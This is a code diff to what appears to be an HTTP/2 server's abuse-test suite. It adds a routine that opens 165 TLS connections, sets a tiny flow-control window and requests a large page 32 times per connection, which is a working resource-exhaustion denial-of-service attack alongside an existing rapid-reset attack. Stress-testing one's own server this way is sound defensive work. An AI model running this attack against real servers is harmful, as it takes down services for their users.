@@ -5,12 +5,15 @@ import struct
 
 import trio
 
+from tests.abuse.attacks import LARGE_PAGE
 from tests.abuse.ground import Ground
 
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
 DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE = 0, 1, 2, 3, 4, 6, 8
 ACK, END_STREAM, END_HEADERS = 1, 1, 4
+INITIAL_WINDOW_SIZE = 4
 FRAMES_AT_ONCE = 1_000
+UNREAD_CONNECTIONS = 165
 
 
 def frame(kind: int, payload: bytes = b"", *, flags: int = 0, stream: int = 0) -> bytes:
@@ -47,6 +50,24 @@ async def rapid_reset(ground: Ground) -> None:
                 ground.counts["frames"] += 2 * FRAMES_AT_ONCE
 
     await ground.many(8, one)
+
+
+async def unread_http2(ground: Ground) -> None:
+    """165 connections that request a large page 32 times and open no window for it."""
+    first = b"\x82\x87\x44" + bytes([len(LARGE_PAGE)]) + LARGE_PAGE.encode() + b"\x41\x10node.example.com"
+    asked = [first] + 31 * [b"\x82\x87\xbf\xbe"]  # the same by reference
+    sent = PREFACE + frame(SETTINGS, struct.pack(">HI", INITIAL_WINDOW_SIZE, 0))
+    for number, head in enumerate(asked):
+        sent += frame(HEADERS, head, flags=END_STREAM | END_HEADERS, stream=2 * number + 1)
+
+    async def one(ground: Ground) -> None:
+        async with ground.tls_connection() as stream:
+            await stream.send_all(sent)
+            ground.counts["requests"] += len(asked)
+            ground.counts["bytes"] = min(ground.counts["agreed on h2"], UNREAD_CONNECTIONS) * len(sent)
+            await _read(stream)
+
+    await ground.many(UNREAD_CONNECTIONS, one)
 
 
 async def http2_on_the_plain_port(ground: Ground) -> None:
